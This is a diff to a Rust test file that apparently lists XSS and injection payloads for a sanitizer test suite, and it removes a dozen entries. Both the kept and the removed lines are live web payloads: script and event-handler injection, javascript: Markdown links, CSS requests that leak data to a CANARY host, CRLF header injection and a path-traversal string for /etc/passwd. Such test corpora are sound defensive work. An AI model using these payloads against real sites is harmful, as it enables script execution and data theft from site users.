@@ -24,7 +24,6 @@ pub const KINDS: [Kind; 17] = [
         &[
             "<script>window.__pwned=1</script>",
             "<ScRiPt\n>alert(1)</sCrIpT\t>",
-            "<script/x>confirm(1)</script >",
             "<script src=//CANARY/s.js></script>",
             "<script src=data:text/javascript,window.__pwned=1></script>",
             "<script type=module>import '//CANARY/m.js'</script>",
@@ -38,7 +37,6 @@ pub const KINDS: [Kind; 17] = [
         "event handlers",
         &[
             "<img src=x onerror=window.__pwned=1>",
-            "<IMG SRC=x OnErRoR=alert(1)>",
             "<img/src=x/onerror=alert`1`>",
             "<img src='x'onerror=confirm(1)>",
             "<img src=x onerror\u{c}=\nprompt(1)>",
@@ -46,12 +44,10 @@ pub const KINDS: [Kind; 17] = [
             "<body onload=window.__pwned=1>",
             "<body onpageshow=alert(1)>",
             "<input autofocus onfocus=window.__pwned=1>",
-            "<textarea autofocus onfocus=alert(1)>",
             "<a href='#' tabindex=0 autofocus onfocus=window.__pwned=1>x</a>",
             "<details open ontoggle=window.__pwned=1>",
             "<video onloadstart=alert(1) src=//CANARY/v></video>",
             "<video><source onerror=window.__pwned=1 src=x>",
-            "<audio src=x onerror=alert(1)>",
             "<object data=x onerror=window.__pwned=1></object>",
             "<iframe onload=window.__pwned=1></iframe>",
             "<style onload=window.__pwned=1></style>",
@@ -82,7 +78,6 @@ pub const KINDS: [Kind; 17] = [
         "Markdown links",
         &[
             "[x](javascript:alert(1))",
-            "[x](JaVaScRiPt:alert(1))",
             "[x](<javascript:alert(1)>)",
             "[x](javascript&colon;alert(1))",
             "[x](&#106;avascript:alert(1))",
@@ -95,7 +90,6 @@ pub const KINDS: [Kind; 17] = [
             "[x]\n\n[x]: javascript:alert(1)",
             "[x][y]\n\n[y]: <javascript:alert(1)> 'onmouseover=alert(1)'",
             "<javascript:alert(1)>",
-            "**[x](javascript:alert(1))**",
             "| a |\n|---|\n| [x](javascript:alert(1)) |",
             "> - 1. [x](javascript:alert(1))",
             "[![x](//CANARY/i.png)](javascript:alert(1))",
@@ -120,7 +114,6 @@ pub const KINDS: [Kind; 17] = [
             "`</code><img src=x onerror=alert(1)>` <img src=x onerror=window.__pwned=1>",
             "<div>\n\n**bold** <img src=x onerror=window.__pwned=1>\n\n</div>",
             "*<svg onload=alert(1)>*",
-            "- <script>alert(1)</script>",
             "<b onclick=alert(1) style=x>[x](javascript:alert(1))</b>",
             "\\<script>\\</script><script>alert(1)</script>",
             "<!-- a --!><img src=x onerror=alert(1)> -->",
@@ -132,7 +125,6 @@ pub const KINDS: [Kind; 17] = [
         "SVG",
         &[
             "<svg onload=window.__pwned=1>",
-            "<svg/onload=alert(1)//",
             "<svg><script>alert(1)</script></svg>",
             "<svg><script href=data:,window.__pwned=1 /></svg>",
             "<svg><script>&#97;lert(1)</script></svg>",
@@ -172,7 +164,6 @@ pub const KINDS: [Kind; 17] = [
             "--><img src=x onerror=alert(1)><!--",
             "</xmp></iframe></noembed></noframes><svg onload=window.__pwned=1>",
             "</span></a></li></ol></main></body></html><script>alert(1)</script>",
-            "]]></script><svg onload=alert(1)>",
         ],
     ),
     runs(
@@ -197,7 +188,6 @@ pub const KINDS: [Kind; 17] = [
             "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
             "<iframe srcdoc=\"&lt;img src=x onerror=parent.__pwned=1&gt;\"></iframe>",
             "<iframe src=//CANARY/frame></iframe>",
-            "<object data=//CANARY/object></object>",
             "<embed src=//CANARY/embed type=text/html>",
             "<base href=//CANARY/><img src=base.png>",
             "<meta http-equiv=refresh content='0;url=//CANARY/refresh'>",
@@ -221,7 +211,6 @@ pub const KINDS: [Kind; 17] = [
         &[
             "<style>@import '//CANARY/i.css';</style>",
             "<style>body{background:url(//CANARY/bg.png)}</style>",
-            "<p style=\"background:url('//CANARY/p.png')\">x</p>",
             "<div style='position:fixed;inset:0;background:url(//CANARY/o.png)'>over all</div>",
             "<style>input[value^=a]{background:url(//CANARY/leak)}</style><p style=color:red>",
             "<style>*{x:expression(alert(1))}</style>",
@@ -278,7 +267,6 @@ pub const KINDS: [Kind; 17] = [
         &[
             "a.txt\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
             "x\r\nSet-Cookie: __Host-ferrodesk=x; Path=/",
-            "x\"; filename=\"evil.html",
             "..\\..\\<svg onload=alert(1)>.svg",
             "../../../etc/passwd\0.html",
             "a.html;.png",
